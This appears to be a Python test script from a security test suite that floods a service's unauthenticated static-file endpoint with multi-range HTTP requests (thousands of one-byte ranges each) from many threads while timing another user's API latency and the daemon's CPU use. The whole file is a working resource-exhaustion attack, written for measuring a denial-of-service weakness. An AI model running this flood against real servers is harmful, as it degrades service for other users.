#!/usr/bin/env python3
"""range13a.py: the explain page's static files (served without a token) with a multi-range
request: Range: bytes=0-0,2-2,4-4,... over all of explain.js (about 4,000 ranges in a 39 KB head),
answered 206 multipart/byteranges of about 0.6 MB. T threads on kept-alive connections, no token,
for SECS s against --http-listen (DIR/env; HTTPS when it has CERT=), while victim13a.py-style bob
Routes are timed; prints requests done, the daemon's CPU seconds, bob's p50/p99 and the load.
usage: range13a.py DIR T SECS"""
import os, sys, time, threading, http.client, json, ssl
d, T, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
env = dict(l.strip().split('=', 1) for l in open(os.path.join(d, 'env')) if '=' in l)
tok = {l.split()[0]: l.split()[2] for l in open(os.path.join(d, 'tokens'))}
pid = env['PID']; h, p = env['HTTP'].split(':')
def cpu(): f = open(f'/proc/{pid}/stat').read().split(); return (int(f[13]) + int(f[14])) / os.sysconf('SC_CLK_TCK')
def conn():
    if 'CERT' in env:
        c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
        return http.client.HTTPSConnection(h, int(p), timeout=60, context=c)
    return http.client.HTTPConnection(h, int(p), timeout=60)
R = 'bytes=' + ','.join('%d-%d' % (i, i) for i in range(0, int(os.environ.get('SIZE', '8070')), 2))
stop = [False]; done = [0]; sizes = {}
def hog():
    c = conn()
    while not stop[0]:
        try:
            c.request('GET', os.environ.get('FILE', '/explain.js'), headers={'Range': R}); r = c.getresponse(); b = r.read()
            done[0] += 1; sizes[r.status] = len(b)
        except Exception:
            c = conn()
def victim(secs):
    c = conn(); lat = []; t0 = time.time()
    while time.time() - t0 < secs:
        s = time.time()
        c.request('POST', '/classifier.v1.ClassifierService/Route', json.dumps({'query': 'open a pull request on github'}),
                  {'Content-Type': 'application/json', 'Authorization': 'Bearer ' + tok['bob']})
        r = c.getresponse(); r.read(); lat.append((time.time() - s) * 1000); time.sleep(0.05)
    lat.sort(); return 'bob p50 %.1f p99 %.1f ms (%d calls)' % (lat[len(lat) // 2], lat[int(len(lat) * .99)], len(lat))
c0 = cpu(); print('idle:', victim(secs / 2), 'daemon %.1fs CPU' % (cpu() - c0), 'load', open('/proc/loadavg').read().split()[0], flush=True)
ths = [threading.Thread(target=hog, daemon=True) for _ in range(T)]; [t.start() for t in ths]; time.sleep(1)
c0 = cpu(); t0 = time.time(); v = victim(secs); dt = time.time() - t0
print('flood: %s; %d range requests (status: bytes %s), daemon %.1fs CPU in %.1fs, load %s' % (v, done[0], sizes, cpu() - c0, dt, open('/proc/loadavg').read().split()[0]))
stop[0] = True
